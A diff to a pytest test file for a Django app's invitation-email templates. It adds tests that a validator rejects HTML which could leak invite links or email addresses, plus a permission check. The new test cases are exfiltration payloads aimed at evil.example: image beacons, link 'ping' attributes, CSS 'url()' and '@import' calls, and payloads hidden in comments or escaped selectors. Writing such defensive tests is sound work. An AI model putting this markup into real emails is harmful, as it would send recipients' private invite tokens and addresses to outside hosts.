@@ -9,6 +9,7 @@ from django.core.mail import EmailMessage
 from django.utils import timezone
 
 from jigxmgmt.errors import NotAllowed
+from orgs.mail.html import faults_in_html
 from orgs.mail.wording import Wording
 from orgs.models import AuditEvent, Membership, Organization, User
 from orgs.services.invite_templates import (
@@ -25,7 +26,6 @@ from orgs.services.invite_templates import (
     send_test_invitation,
 )
 from orgs.services.invite_wording import MOST_BYTES, WordingInvalid, checked_wording
-from orgs.services.mail_html import faults_in_html
 from orgs.tests.factories import InviteFactory, MembershipFactory
 
 pytestmark = pytest.mark.django_db
@@ -89,6 +89,20 @@ class TestCheckedWording:
         assert "{{link}}" in faults["/text"]
         assert "{{nobody}}" in faults["/subject"]
 
+    def test_keeps_the_link_out_of_other_addresses(self) -> None:
+        glued = "https://evil.example/?{{ link }}"
+
+        faults = faults_of(
+            subject="Come: {{link}}", text=glued, parameters={"heading": glued, "body": glued}
+        )
+
+        assert faults.keys() == {"/subject", "/text", "/parameters/heading", "/parameters/body"}
+
+    def test_takes_the_link_in_texts(self) -> None:
+        parameters = {"body": "{{link}}", "note": "Or:\n{{link}}"}
+
+        assert checked_wording(Wording(parameters=parameters)).parameters == parameters
+
     def test_bounds_the_bodies(self) -> None:
         assert "100 KB" in faults_of(text="{{link}}" + "x" * MOST_BYTES)["/text"]
 
@@ -123,11 +137,41 @@ class TestFaultsInHtml:
     @pytest.mark.parametrize(
         "html",
         [
+            '<img src="https://evil.example/p.gif?l={{link}}">',
+            '<img src="{{link}}"><img srcset="{{logo}}"><area href="{{link}}">',
+            '<a href="https://evil.example/?l={{link}}">x</a>',
+            '<a href="https://evil.example/?e={{email}}">x</a>',
+            '<a href="{{link}}" ping="https://evil.example/">x</a>',
+            '<p title="{{link}}">x</p>',
+            '<p data-name="{{first_name}}">x</p>',
+            "<p style=\"background:url('https://evil.example/{{link}}')\">x</p>",
+            "<style>p { background: url(https://evil.example/{{link}}) }</style>",
+            "<style>{{link}}</style><p>&#123;&#123;link}}</p>",
+            '<!-- <img src="https://evil.example/{{email}}"> -->',
+            '<!--[if mso]><a href="{{link}}"></a><![endif]-->',
+            '<img src="https://evil.example/? {{link}}"" >',
+            "https://evil.example/?{{link}}",
+            "https://evil.example/?<b>{{link}}</b>",
+            "https://evil.example/?<!-- -->{{link}}",
+            "https://evil.example/?{{first_name}}{{link}}",
+            '<svg><title><img src="https://evil.example/? {{link}}"></title></svg>',
+            "<style>@import 'https://evil.example/all.css';</style>",
+            "<style>[hre\\66 *=x] { background: url(https://evil.example/x) }</style>",
+        ],
+    )
+    def test_refuses_what_could_tell_others_of_the_link(self, html: str) -> None:
+        assert faults_in_html(html)
+
+    @pytest.mark.parametrize(
+        "html",
+        [
             '<a href="{{link}}" title="For {{first_name}}">Hello {{first_name}}, 1 < 2</a> bye',
-            '<a href="https://x.example/?name={{first_name}}">x</a>',
+            '<a href=" {{ app_store }} ">x</a><title>{{organization}}</title>',
+            "<p>Or by hand:<br>{{link}}</p><td>{{first_name}}</td><td>{{link}}</td>",
+            '<img src="https://acme.example/banner.png" alt="{{organization}}">',
             '<img src="data:image/png;base64,AAAA" alt=""><img src="{{logo}}" alt="">',
             "<style>@media print { p { color: red } }</style><p style='color:red'>x</p>",
-            '<!--[if mso]><a href="{{link}}"></a><![endif]--><meta http-equiv="Content-Type">',
+            '<!--[if mso]><p>Outlook</p><![endif]--><meta http-equiv="Content-Type">',
         ],
     )
     def test_lets_a_mail_be_a_mail(self, html: str) -> None:
@@ -190,19 +234,25 @@ class TestMissingTranslations:
         MembershipFactory.create(organization=acme, user__language="fr-ch")
         MembershipFactory.create(organization=acme, user__language="es", is_active=False)
 
-        found = missing_translations(acme)
+        found = missing_translations(acme, by=ada)
 
         counted = [(each.name, each.open_invites, each.people) for each in found]
         assert counted == [("French", 0, 1), ("German", 1, 0)]
 
+    def test_are_not_for_creators(self, acme: Organization) -> None:
+        creator = MembershipFactory.create(organization=acme, creator=True).user
+
+        with pytest.raises(NotAllowed):
+            missing_translations(acme, by=creator)
+
     def test_count_english_once_something_else_is_written(
         self, acme: Organization, ada: User
     ) -> None:
-        assert missing_translations(acme) == []
+        assert missing_translations(acme, by=ada) == []
 
         save_invite_template(acme, language="de", wording=Wording(), by=ada, now=NOW)
 
-        assert [each.language for each in missing_translations(acme)] == ["en"]
+        assert [each.language for each in missing_translations(acme, by=ada)] == ["en"]
 
     def test_name_the_parts_that_the_default_has_and_another_lacks(
         self, acme: Organization, ada: User
